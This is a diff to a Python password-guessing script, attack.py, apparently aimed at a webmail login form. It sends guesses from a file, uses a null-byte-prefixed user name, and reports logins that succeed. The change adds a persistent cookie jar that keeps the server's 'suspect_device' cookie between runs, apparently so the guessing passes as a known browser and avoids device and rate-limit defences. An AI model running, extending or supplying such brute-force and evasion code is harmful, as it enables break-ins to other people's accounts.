@@ -11,10 +11,14 @@ usage: attack.py BASE PATH PLACE USER PASSWORDS
   PLACE      where _task=login and _action=login go: body, query, cookie
   USER       the user name, already urlencoded as it is sent ("%00alice")
   PASSWORDS  a file, one guess a line
+With JAR=file in the environment, the guesses are a browser's that keeps
+its device cookie in file (one guess a run).
 Prints "login: USER password: GUESS" for a guess that logged in, and
 "denied N" for the guesses refused with a 429; exits 0.
 """
+import atexit
 import http.cookiejar
+import os
 import re
 import sys
 import urllib.error
@@ -27,9 +31,31 @@ class NoRedirect(urllib.request.HTTPRedirectHandler):
         return None
 
 
+def browser_jar():
+    """A fresh jar, or with JAR=file in the environment a browser's that
+    kept its device cookie from earlier runs (its sessions ended): the
+    device cookie is saved again at exit."""
+    path = os.environ.get("JAR")
+    if not path:
+        return http.cookiejar.CookieJar()
+    jar = http.cookiejar.MozillaCookieJar(path)
+    if os.path.exists(path):
+        jar.load(ignore_discard=True, ignore_expires=True)
+
+    def keep():
+        out = http.cookiejar.MozillaCookieJar(path)
+        for c in jar:
+            if c.name.endswith("suspect_device"):
+                out.set_cookie(c)
+        out.save(ignore_discard=True, ignore_expires=True)
+
+    atexit.register(keep)
+    return jar
+
+
 def guess(base, path, place, user, password):
     """The status of one login attempt and its Location."""
-    jar = http.cookiejar.CookieJar()
+    jar = browser_jar()
     opener = urllib.request.build_opener(
         urllib.request.HTTPCookieProcessor(jar), NoRedirect)
     page = opener.open(base + "/?_task=login", timeout=20).read().decode(
